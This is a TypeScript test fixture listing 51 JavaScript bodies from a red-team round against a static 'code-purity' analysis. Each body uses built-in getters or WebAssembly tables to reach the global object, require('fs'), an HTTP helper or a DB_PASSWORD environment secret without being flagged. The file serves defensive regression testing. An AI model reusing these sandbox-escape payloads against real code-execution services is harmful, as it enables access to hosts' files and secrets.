// Round 26 of the code-purity red team, 2026-12-02: black box against the points-to analysis after round 25's
// fixes (the Node-library rule), 160 bodies tried, 141 obtained a capability, 80 of them missed; these 51 (the
// shortest per cause and variants) obtain a capability in the oracle while the points-to analysis reports none.
// The value-flow rule (the shipped one) reports every one; the points-to analysis does since the fixes below. Eight causes:
// wasm-table-slot, error-stack-lazy-format, error-tostring-getters, arraylike-length-getter, intl-options-getter, regexp-flags-getter, bind-name-length-getter, iterresult-done-getter.
// Seven of them are one root cause: a built-in or the engine reads a getter of the code's object under a named
// key (length, name, message, flags, lastIndex, done, Intl options) with the object as its receiver, which no
// rule runs; the eighth, WebAssembly.Table, keeps a value in an internal slot, which the unsummarized rule's
// assumption (reached only through own properties) misses. Fixed by the implicit-protocol pass running every
// getter and setter of the code's with each receiver, and by the unsummarized rule storing what it reaches.
import type { RoundEntry } from './red-team-round.js';

export const ROUND26_BYPASSES: RoundEntry[] = [
  { id: "wasm-table", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 1 }); t.set(0, () => 0); return t.get(0).constructor(\"return this\")();", node24: true },
  { id: "tbl-this", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 1 }); t.set(0, this); return [{json:{g: t.get(0)}}];", node24: true },
  { id: "tbl-grow", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 0 }); t.grow(1, () => 0); return t.get(0).constructor(\"return this\")();", node24: true },
  { id: "tbl-grow-this", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 0 }); t.grow(2, this); return [{json:{g: t.get(1)}}];", node24: true },
  { id: "tbl-obj", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 1 }); const o = { g: this }; t.set(0, o); return [{json:{g: t.get(0).g}}];", node24: true },
  { id: "tbl-set-fn-this", code: "const t = new WebAssembly.Table({ element: 'anyfunc', initial: 1 }); const G = this; const g = new WebAssembly.Global({ value: 'externref', mutable: true }); const t2 = new WebAssembly.Table({ element: 'externref', initial: 2 }); t2.set(1, G); return [{json:{g: t2.get(1)}}];", node24: true },
  { id: "tbl-each", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 1 }); t.set(0, this); return {json:{g: t.get(0)}};", mode: "runOnceForEachItem", node24: true },
  { id: "tbl-n20", code: "const t = new WebAssembly.Table({ element: 'externref', initial: 1 }); t.set(0, this); return [{json:{g: t.get(0)}}];" },
  { id: "stack-getter", code: "let g; class X extends Error { get message() { g = this.k; return 'm' } } const e = new X(); e.k = () => 0; e.stack; return g.constructor(\"return this\")();", node24: true },
  { id: "stack-getter-name", code: "let g; class X extends Error { get name() { g = this.k; return 'N' } } const e = new X(); e.k = require; String(e.stack); try { g('fs') } catch {} return [];", node24: true },
  { id: "stack-getter-msg2", code: "let g; class X extends TypeError { get message() { g = this; return '' } } const e = new X(); e.k = this; e.stack; return [{json:{g: g.k}}];", node24: true },
  { id: "stack-getter-req", code: "let g; class X extends Error { get message() { g = this.k; return '' } } const e = new X(); e.k = require; e.stack; try { g('fs') } catch {} return [];", node24: true },
  { id: "stack-getter-helpers", code: "let g; class X extends Error { get name() { g = this.k; return '' } } const e = new X(); e.k = helpers; e.stack; await g.httpRequest({ url: 'http://x' }); return [];", node24: true },
  { id: "stack-from-throw", code: "let g; class X extends Error { get message() { g = this.k; return '' } } try { throw Object.assign(new X(), { k: () => 0 }) } catch (e) { String(e.stack) } return g.constructor(\"return this\")();", node24: true },
  { id: "stack-typeerror-proto", code: "let g; class X extends RangeError { get name() { g = this.k; return 'R' } } const e = new X(); e.k = () => 0; `${e.stack}`; return g.constructor(\"return this\")();", node24: true },
  { id: "stack-each", code: "let g; class X extends Error { get message() { g = this.k; return '' } } const e = new X(); e.k = this; e.stack; return {json:{g}};", mode: "runOnceForEachItem", node24: true },
  { id: "errtostring", code: "let g; Error.prototype.toString.call({ k: () => 0, get name() { g = this.k; return 'n' } }); return g.constructor(\"return this\")();", node24: true },
  { id: "errtostring-msg-helpers", code: "let g; const o = { get message() { g = this; return 'm' } }; o.h = helpers; Error.prototype.toString.call(o); await g.h.httpRequest({ url: 'http://x' }); return [];", node24: true },
  { id: "errtostring-class", code: "let g; class E extends Error { get name() { g = this.k; return 'E' } } const e = new E('x'); e.k = this; String(e); return [{json:{g}}];", node24: true },
  { id: "errtostring-template", code: "let g; class E extends Error { get message() { g = this.k; return 'E' } } const e = new E(); e.k = this; `${e}`; return [{json:{g}}];", node24: true },
  { id: "len-join", code: "let g; Array.prototype.join.call({ k: () => 0, get length() { g = this.k; return 0 } }); return g.constructor(\"return this\")();", node24: true },
  { id: "len-forEach-this", code: "let g; Array.prototype.forEach.call({ k: this, get length() { g = this.k; return 0 } }, (x) => x); return [{json:{g}}];", node24: true },
  { id: "len-forEach-req", code: "let g; Array.prototype.forEach.call({ k: require, get length() { g = this.k; return 0 } }, (x) => x); try { g('fs') } catch {} return [];", node24: true },
  { id: "len-apply", code: "let g; Math.max.apply(null, { k: () => 0, get length() { g = this.k; return 0 } }); return g.constructor(\"return this\")();", node24: true },
  { id: "len-from", code: "let g; Array.from({ k: () => 0, get length() { g = this.k; return 0 } }); return g.constructor(\"return this\")();", node24: true },
  { id: "len-receiver-arg", code: "let g; const o = { get length() { g = this; return 0 } }; o.k = $env; Array.prototype.lastIndexOf.call(o, 1); return [{json:{s: g.k.DB_PASSWORD}}];", node24: true },
  { id: "len-each", code: "let g; Array.prototype.join.call({ k: this, get length() { g = this.k; return 0 } }); return {json:{g}};", mode: "runOnceForEachItem", node24: true },
  { id: "concat-len", code: "let g; [].concat({ [Symbol.isConcatSpreadable]: true, k: this, get length() { g = this.k; return 0 } }); return [{json:{g}}];", node24: true },
  { id: "nf-this", code: "let g; new Intl.NumberFormat('en', { k: this, get style() { g = this.k; return 'decimal' } }); return [{json:{g}}];", node24: true },
  { id: "nf-req", code: "let g; new Intl.NumberFormat('en', { k: require, get style() { g = this.k; return 'decimal' } }); try { g('fs') } catch {} return [];", node24: true },
  { id: "nf-helpers", code: "let g; new Intl.NumberFormat('en', { k: helpers, get style() { g = this.k; return 'decimal' } }); await g.httpRequest({ url: 'http://x' }); return [];", node24: true },
  { id: "nf-env", code: "let g; new Intl.NumberFormat('en', { k: $env, get style() { g = this.k; return 'decimal' } }); return [{json:{s: g.DB_PASSWORD}}];", node24: true },
  { id: "collator-getter", code: "let g; new Intl.Collator('en', { k: () => 0, get usage() { g = this.k; return 'sort' } }); return g.constructor(\"return this\")();", node24: true },
  { id: "datetolocale-getter", code: "let g; new Date(0).toLocaleDateString('en', { k: () => 0, get timeZone() { g = this.k; return 'UTC' } }); return g.constructor(\"return this\")();", node24: true },
  { id: "lc-getter", code: "let g; 'a'.localeCompare('b', 'en', { k: () => 0, get sensitivity() { g = this.k; return 'base' } }); return g.constructor(\"return this\")();", node24: true },
  { id: "supported-opts", code: "let g; Intl.NumberFormat.supportedLocalesOf('en', { k: () => 0, get localeMatcher() { g = this.k; return 'lookup' } }); return g.constructor(\"return this\")();", node24: true },
  { id: "replaceall-flags", code: "let g; try { 'a'.replaceAll({ k: () => 0, [Symbol.match]: true, get flags() { g = this.k; return 'g' }, [Symbol.replace]() { return '' } }, 'b') } catch {} return g.constructor(\"return this\")();", node24: true },
  { id: "replaceall-flags-this", code: "let g; 'a'.replaceAll({ k: this, [Symbol.match]: true, get flags() { g = this.k; return 'g' }, [Symbol.replace]() { return '' } }, 'b'); return [{json:{g}}];", node24: true },
  { id: "matchall-flags", code: "let g; try { 'a'.matchAll({ k: () => 0, [Symbol.match]: true, get flags() { g = this.k; return 'g' }, [Symbol.matchAll]() { return [].values() } }) } catch {} return g.constructor(\"return this\")();", node24: true },
  { id: "re-split-flags", code: "let g; try { RegExp.prototype[Symbol.split].call({ k: () => 0, get flags() { g = this.k; return '' }, constructor: RegExp }, 'a') } catch {} return g.constructor(\"return this\")();", node24: true },
  { id: "re-match-flags", code: "let g; try { RegExp.prototype[Symbol.match].call({ k: () => 0, get flags() { g = this.k; return '' }, exec() { return null } }, 'a') } catch {} return g.constructor(\"return this\")();", node24: true },
  { id: "re-match-flags-this", code: "let g; RegExp.prototype[Symbol.match].call({ k: this, get flags() { g = this.k; return '' }, exec() { return null } }, 'a'); return [{json:{g}}];", node24: true },
  { id: "re-matchall-flags", code: "let g; try { RegExp.prototype[Symbol.matchAll].call({ k: this, get flags() { g = this.k; return '' }, constructor: RegExp, lastIndex: 0 }, 'a') } catch {} return [{json:{g}}];", node24: true },
  { id: "re-search-lastindex-getter", code: "let g; RegExp.prototype[Symbol.search].call({ k: this, get lastIndex() { g = this.k; return 0 }, set lastIndex(v) {}, exec() { return null } }, 'a'); return [{json:{g}}];", node24: true },
  { id: "bind-name", code: "let g; class F { static k = () => 0; static get name() { g = this.k; return 'n' } } F.bind(); return g.constructor(\"return this\")();", node24: true },
  { id: "bind-length", code: "let g; class F { static k = () => 0; static get length() { g = this.k; return 0 } } F.bind(); return g.constructor(\"return this\")();", node24: true },
  { id: "bind-name-this", code: "let g; class F { static get name() { g = this.k; return 'n' } } F.k = this; F.bind(); return [{json:{g}}];", node24: true },
  { id: "bind-apply-len", code: "let g; class F { static get length() { g = this; return 0 } } F.k = require; F.bind(); try { g.k('fs') } catch {} return [];", node24: true },
  { id: "bind-name-helpers", code: "let g; class F { static get name() { g = this; return 'n' } } F.h = helpers; F.bind(null); await g.h.httpRequest({ url: 'http://x' }); return [];", node24: true },
  { id: "iterres-done-getter", code: "let g; for (const x of { [Symbol.iterator]() { return { next() { return { k: () => 0, get done() { g = this.k; return true } } } } } }) ; return g.constructor(\"return this\")();", node24: true },
  { id: "iterres-done-spread", code: "let g; [...{ [Symbol.iterator]() { return { next() { return { k: require, get done() { g = this.k; return true } } } } } }]; try { g('fs') } catch {} return [];", node24: true },
];
